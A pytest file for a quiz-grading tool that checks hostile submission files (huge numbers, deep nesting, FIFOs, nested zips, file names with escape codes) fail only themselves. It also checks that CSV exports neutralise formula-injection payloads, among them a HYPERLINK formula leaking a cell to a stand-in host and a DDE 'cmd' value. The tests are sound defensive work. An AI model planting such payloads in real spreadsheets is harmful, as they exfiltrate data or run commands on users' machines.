"""Hostile and unlucky input (issue 11): one file can only ever fail itself.

Each case hands in a class of good files plus one bad one through the real command line, and checks that the
bad file is rejected for a named reason (or graded, when it is a fair if odd answer), the good ones are all
stored, nothing prints a traceback, and what is printed is one line per file. benchmarks/bench_hostile.py runs
the same cases in fresh processes and prints their time and memory.
"""
from __future__ import annotations

import errno
import io
import json
import os
import sqlite3
import zipfile
from pathlib import Path

import pytest

from kcourse.instructor import gradebook as gb

from .conftest import FIVE, run_cli, submission_json, write_roster

GOOD = 5


def _class(tmp_path: Path, five) -> Path:
    subs = tmp_path / "subs"
    subs.mkdir()
    for i in range(GOOD):
        (subs / f"s{i}.json").write_text(submission_json(five, f"s{i}"), encoding="utf-8")
    return subs


def _sub(five, sid: str = "mallory", **changes) -> str:
    data = json.loads(submission_json(five, sid))
    data.update(changes)
    return json.dumps(data)


def _stored(book: Path) -> set[str]:
    conn = sqlite3.connect(book)
    try:
        return {r[0] for r in conn.execute("SELECT student_id FROM attempts")}
    finally:
        conn.close()


def _responses_with(five, value) -> str:
    data = json.loads(submission_json(five, "mallory"))
    first = next(iter(data["responses"]))
    data["responses"][first] = value
    return json.dumps(data)


# -- one bad file among good ones: (id, how to add it, reason printed, also graded?) ---------------------------
def add_text(name: str, text_of):
    def add(subs: Path, five) -> None:
        (subs / name).write_text(text_of(five), encoding="utf-8")
    return add


def add_bytes(name: bytes, data_of):
    def add(subs: Path, five) -> None:
        with open(os.path.join(os.fsencode(subs), name), "wb") as f:
            f.write(data_of(five))
    return add


def add_fifo(subs: Path, five) -> None:
    os.mkfifo(subs / "pipe.json")


def add_device_link(subs: Path, five) -> None:
    os.symlink("/dev/zero", subs / "zero.json")


def add_zip_with_odd_names(subs: Path, five) -> None:
    with zipfile.ZipFile(subs / "odd.zip", "w") as z:
        z.writestr("evil\n  graded: 999 new\x1b[2J.json", "{}")


def add_deep_zip(subs: Path, five) -> None:
    import io

    inner = b"{}"
    for level in range(3):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(f"l{level}.zip" if level else "x.json", inner)
        inner = buf.getvalue()
    (subs / "deep.zip").write_bytes(inner)


def add_zip_as_json(subs: Path, five) -> None:
    import io

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.json", "{}")
    (subs / "renamed.json").write_bytes(buf.getvalue())


CASES = [
    ("int-5001-digits-in-response", add_text("m.json", lambda q: _responses_with(q, 0).replace(": 0", ": " + "9" * 5001, 1)),
     "a whole number of 5,001 digits", False),
    ("int-5001-digits-seed", add_text("m.json", lambda q: _sub(q).replace('"variant_seed": ', '"variant_seed": ' + "1" * 5000)),
     "a whole number of 5,0", False),
    ("int-400-digits-is-an-unreadable-answer", add_text("m.json", lambda q: _responses_with(q, 10 ** 399)), None, True),
    ("float-1e999", add_text("m.json", lambda q: _responses_with(q, 0).replace(": 0", ": 1e999", 1)), None, True),
    ("lone-surrogate-student-id", add_text("m.json", lambda q: _sub(q).replace('"mallory"', '"\\ud800"')),
     "lone UTF-16 surrogate", False),
    ("lone-surrogate-response", add_text("m.json", lambda q: _responses_with(q, "x").replace('"x"', '"\\udfff"')),
     "lone UTF-16 surrogate", False),
    ("json-nested-100000", add_text("m.json", lambda q: "[" * 100_000 + "]" * 100_000), "nested too deeply", False),
    ("non-utf8-file-name", add_bytes(b"caf\xe9-\xff.json", lambda q: _sub(q).encode()), None, True),
    ("newline-in-file-name", add_text("x\n  graded: 999 new.json", lambda q: "not json"), "not valid JSON", False),
    ("named-pipe", add_fifo, "a named pipe (FIFO), not a file", False),
    ("link-to-a-device", add_device_link, "a device, not a file", False),
    ("control-chars-in-zip-member", add_zip_with_odd_names, "evil\\x0a  graded: 999 new\\x1b[2J.json", False),
    ("zip-three-deep", add_deep_zip, "a zip archive 3 levels deep", False),
    ("zip-named-json", add_zip_as_json, "a zip archive, not a submission file", False),
    ("huge-response-list", add_text("m.json", lambda q: _responses_with(q, ["a"] * 200_000)), None, True),
]


@pytest.mark.parametrize(("add", "reason", "graded"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_one_hostile_file_fails_only_itself(tmp_path, five, capsys, add, reason, graded):
    subs = _class(tmp_path, five)
    add(subs, five)
    book = tmp_path / "gb.sqlite"
    code, out, err = run_cli(capsys, "grade", str(FIVE), str(subs), "-g", str(book), "-q")
    assert "Traceback" not in out + err
    want = {f"s{i}" for i in range(GOOD)} | ({"mallory"} if graded and "name" not in str(add) else set())
    assert want <= _stored(book), out
    lines = out.splitlines()
    assert lines[0].startswith("five-items: ")
    assert sum("file(s) in =" in ln for ln in lines) == 1  # no file name forged a summary line
    assert not any(c in out for c in "\x1b\x00\r")
    if reason is None:
        assert code == 0, out
    else:
        assert code == 1 and reason in out, out


PATTERN_QUIZ = FIVE.parent.parent / "quiz" / "valid-pathological-pattern.yml"


@pytest.mark.parametrize(("answer", "status"), [("a" * 999 + "!", "correct"), ("a" * 999 + "c", "incorrect"),
                                                ("x" * 999, "incorrect"), ("ab " * 333 + "!", "correct"),
                                                ("a" * 1000 + "b", "incorrect")])
def test_an_answer_against_a_backtracking_pattern_is_graded_at_once(tmp_path, capsys, answer, status):
    """re would take longer than the age of the universe on these; at most 1,000 characters are compared."""
    from kcourse.core.loader import load_quiz

    quiz = load_quiz(PATTERN_QUIZ)
    sub = tmp_path / "s.json"
    sub.write_text(submission_json(quiz, "mallory", responses={"backtrack": answer}), encoding="utf-8")
    code, out, err = run_cli(capsys, "grade-one", str(PATTERN_QUIZ), str(sub), "--json")
    assert code == 0, err
    assert json.loads(out)["questions"][0]["status"] == status


def test_a_non_utf8_file_name_is_stored_escaped(tmp_path, five, capsys):
    subs = _class(tmp_path, five)
    with open(os.path.join(os.fsencode(subs), b"\xff\xfe.json"), "wb") as f:
        f.write(_sub(five).encode())
    book = tmp_path / "gb.sqlite"
    code, out, _err = run_cli(capsys, "grade", str(FIVE), str(subs), "-g", str(book), "-q")
    assert code == 0, out
    conn = sqlite3.connect(book)
    sources = {r[0] for r in conn.execute("SELECT source FROM attempts")}
    conn.close()
    assert any(s.endswith("\\xff\\xfe.json") for s in sources), sources


def test_a_bug_in_grading_one_file_costs_that_file_only(tmp_path, five, capsys, monkeypatch):
    from kcourse.instructor import grade as grade_mod

    subs = _class(tmp_path, five)
    (subs / "m.json").write_text(_sub(five), encoding="utf-8")
    real = grade_mod.grade_responses

    def flaky(quiz, ids, responses):
        if responses is flaky.bad:
            raise KeyError("boom")
        return real(quiz, ids, responses)

    flaky.bad = None
    real_parse = grade_mod.parse_submission

    def parse(text, name, **kw):
        sub = real_parse(text, name, **kw)
        if sub.student_id == "mallory":
            flaky.bad = sub.responses
        return sub

    monkeypatch.setattr(grade_mod, "grade_responses", flaky)
    monkeypatch.setattr(grade_mod, "parse_submission", parse)
    book = tmp_path / "gb.sqlite"
    code, out, _err = run_cli(capsys, "grade", str(FIVE), str(subs), "-g", str(book), "-q")
    assert code == 1
    assert "could not be graded" in out and "KeyError" in out and "report it as a kcourse bug" in out
    assert _stored(book) == {f"s{i}" for i in range(GOOD)}


def test_nested_zips_are_never_held_in_memory(tmp_path, five, monkeypatch):
    """A zip inside a zip is copied to a temporary file in chunks; the run's inflate budget bounds the total."""
    import io

    from kcourse.instructor import collect

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.json", submission_json(five, "a"))
    inner = buf.getvalue()
    with zipfile.ZipFile(tmp_path / "outer.zip", "w") as z:
        for k in range(3):
            z.writestr(f"in{k}.zip", inner)
    reads = []
    real_open = zipfile.ZipFile.open

    def spy(self, name, *a, **kw):
        f = real_open(self, name, *a, **kw)
        orig = f.read
        f.read = lambda n=-1: reads.append(n) or orig(n)
        return f

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    with collect.Collector([str(tmp_path / "outer.zip")]) as found:
        assert [s.name.rsplit(":", 1)[1] for s in found.sources] == ["a.json"] * 3
        assert all(n == collect._CHUNK for n in reads)  # bounded reads, never read() of everything
    monkeypatch.setattr(collect, "MAX_EXPANDED", len(inner) + 10)
    with collect.Collector([str(tmp_path / "outer.zip")]) as found:
        problems = [s.problem for s in found.sources if s.problem]
        assert problems and "inflate to more than" in problems[0][1]


# -- CSV exports: formulas neutralised the OWASP way ----------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"]


@pytest.mark.parametrize("fmt", ["csv", "canvas", "moodle"])
def test_grade_exports_neutralise_formulas(tmp_path, five, capsys, fmt):
    import csv

    subs = tmp_path / "subs"
    subs.mkdir()
    for k, sid in enumerate(FORMULAS):
        (subs / f"f{k}.json").write_text(submission_json(five, sid), encoding="utf-8")
    book = tmp_path / "gb.sqlite"
    run_cli(capsys, "grade", str(FIVE), str(subs), "-g", str(book), "-q")
    out = tmp_path / f"g.{fmt}.csv"
    code, _o, err = run_cli(capsys, "grades", "export", str(FIVE), "--format", fmt, "-o", str(out), "-g", str(book))
    assert code == 0, err
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")) for c in row]
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝") for c in cells), cells
    assert {"'" + f for f in FORMULAS} & set(cells)


def test_assign_manifest_csv_neutralises_formulas(tmp_path, capsys):
    import csv

    roster = write_roster(tmp_path / "r.csv", ["=cmd|' /C calc'!A0", "alice"])
    code, _o, err = run_cli(capsys, "assign", str(FIVE), "-r", str(roster), "-o", str(tmp_path / "out"))
    assert code == 0, err
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "manifest.csv").read_text(encoding="utf-8"), newline="")))
    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows for c in row), rows


@pytest.mark.parametrize(("value", "cell"), [("=1+1", "'=1+1"), ("-2", "-2"), ("+1.5e3", "+1.5e3"), ("-x", "'-x"),
                                             ("@x", "'@x"), ("a=b", "a=b"), ("", ""), (3, 3), ("\r\n", "'\r\n")])
def test_csv_cell(value, cell):
    from kcourse.core.safetext import csv_cell

    assert csv_cell(value) == cell


# -- every output error: one line with the path and the fix, exit 1, nothing half-written -----------------------
def _graded_book(tmp_path: Path, five, capsys) -> Path:
    subs = _class(tmp_path, five)
    book = tmp_path / "gb.sqlite"
    run_cli(capsys, "grade", str(FIVE), str(subs), "-g", str(book), "-q")
    return book


def _fail_writes(monkeypatch, err: int) -> None:
    """Every atomic write fails as on a read-only or full disk (as root, chmod cannot make a folder read-only)."""
    import kcourse.storage.atomicfile as af

    real = af.os.fsync

    def fsync(fd):
        raise OSError(err, os.strerror(err))

    monkeypatch.setattr(af.os, "fsync", fsync)
    assert real


COMMANDS = {
    "feedback": lambda t, b: ["feedback", str(FIVE), "-g", str(b), "-o", str(t / "out")],
    "feedback-md": lambda t, b: ["feedback", str(FIVE), "-g", str(b), "-o", str(t / "out"), "--format", "md"],
    "grades-export": lambda t, b: ["grades", "export", str(FIVE), "--format", "csv", "-o", str(t / "out" / "g.csv"),
                                   "-g", str(b)],
    "stats-html": lambda t, b: ["stats", str(FIVE), "-g", str(b), "--html", str(t / "out" / "s.html")],
    "assign": lambda t, b: ["assign", str(FIVE), "-r", str(write_roster(t / "r.csv", ["a", "b"])), "-o",
                            str(t / "out")],
}


@pytest.mark.parametrize("err", [errno.ENOSPC, errno.EROFS, errno.EACCES], ids=["full-disk", "read-only", "denied"])
@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_output_errors_are_one_line_with_path_and_fix(tmp_path, five, capsys, monkeypatch, command, err):
    book = _graded_book(tmp_path, five, capsys)
    (tmp_path / "out").mkdir()
    _fail_writes(monkeypatch, err)
    code, out, errtext = run_cli(capsys, *COMMANDS[command](tmp_path, book))
    assert code == 1, (out, errtext)
    lines = [ln for ln in errtext.splitlines() if ln.strip()]
    assert len(lines) == 1 and "Traceback" not in errtext, errtext
    assert str(tmp_path / "out") in lines[0] and os.strerror(err) in lines[0] and "nothing was half-written" in lines[0]
    assert list((tmp_path / "out").rglob("*.*")) == [] or command == "assign"  # no temporary or partial file
    assert not [p for p in (tmp_path / "out").rglob("*") if p.name.endswith(".tmp")]


def test_a_missing_output_folder_that_cannot_be_made_is_one_line(tmp_path, five, capsys):
    book = _graded_book(tmp_path, five, capsys)
    (tmp_path / "file").write_text("x")
    code, _out, err = run_cli(capsys, "feedback", str(FIVE), "-g", str(book), "-o", str(tmp_path / "file" / "fb"))
    assert code == 1 and len(err.strip().splitlines()) == 1 and "file" in err and "(" in err, err


@pytest.mark.parametrize(("message", "says"), [("database is locked", "is busy"),
                                               ("attempt to write a readonly database", "cannot write the gradebook"),
                                               ("database or disk is full", "free some disk space")])
def test_gradebook_write_failures_are_one_line_and_store_nothing(tmp_path, five, capsys, monkeypatch, message, says):
    subs = _class(tmp_path, five)
    book = tmp_path / "gb.sqlite"

    def fail(*a, **kw):
        raise sqlite3.OperationalError(message)

    monkeypatch.setattr(gb, "write_run", fail)
    from kcourse.instructor import grade as grade_mod

    monkeypatch.setattr(grade_mod.gb, "write_run", fail)
    code, out, err = run_cli(capsys, "grade", str(FIVE), str(subs), "-g", str(book), "-q")
    assert code == 1 and says in err and str(book) in err and len(err.strip().splitlines()) == 1, err
    assert "Traceback" not in err
    monkeypatch.undo()
    assert _stored(book) == set()


def test_a_gradebook_in_a_folder_that_cannot_be_opened_is_one_line(tmp_path, five, capsys, monkeypatch):
    subs = _class(tmp_path, five)

    def refuse(*a, **kw):
        raise sqlite3.OperationalError("unable to open database file")

    monkeypatch.setattr(sqlite3, "connect", refuse)
    code, _out, err = run_cli(capsys, "grade", str(FIVE), str(subs), "-g", str(tmp_path / "gb.sqlite"), "-q")
    assert code == 1 and "cannot write the gradebook" in err and len(err.strip().splitlines()) == 1, err


# -- grade-one and validate: the same inputs end in a clean error, exit 1 --------------------------------------
@pytest.mark.parametrize(("text", "says"), [
    (lambda q: _responses_with(q, 0).replace(": 0", ": " + "9" * 5001, 1), "a whole number of 5,001 digits"),
    (lambda q: _sub(q).replace('"mallory"', '"\\ud800"'), "lone UTF-16 surrogate"),
    (lambda q: "[" * 100_000 + "]" * 100_000, "nested too deeply"),
    (lambda q: "{" + '"a":' * 10 + "}", "not valid JSON"),
], ids=["5001-digits", "lone-surrogate", "nested", "broken"])
def test_grade_one_reports_a_hostile_file_cleanly(tmp_path, five, capsys, text, says):
    sub = tmp_path / "m.json"
    sub.write_text(text(five), encoding="utf-8")
    code, _out, err = run_cli(capsys, "grade-one", str(FIVE), str(sub))
    assert code == 1 and says in err and "Traceback" not in err, err


def test_validate_reports_huge_numbers_cleanly(capsys):
    quiz = FIVE.parent.parent / "quiz" / "invalid-numeric-huge-numbers.yml"
    code, out, err = run_cli(capsys, "validate", str(quiz))
    assert code == 1 and "Traceback" not in out + err
    assert "a whole number of 5,001 characters" in out + err


@pytest.mark.slow
def test_a_class_of_2000_with_one_hostile_file_stores_the_other_1999(tmp_path, five):
    """benchmarks/bench_hostile.py does the same with 10,000 files (9,999 stored)."""
    from kcourse.instructor.grade import grade_run

    subs = tmp_path / "subs"
    subs.mkdir()
    for i in range(1999):
        (subs / f"s{i:04d}.json").write_text(submission_json(five, f"s{i:04d}"), encoding="utf-8")
    (subs / "zz.json").write_text(_sub(five).replace('"variant_seed": ', '"variant_seed": ' + "7" * 5001))
    report = grade_run(quiz=five, inputs=[str(subs)], gradebook=tmp_path / "gb.sqlite")
    assert report.write is not None and report.write.added == 1999
    assert [r.source.rsplit("/", 1)[1] for r in report.rejected] == ["zz.json"]
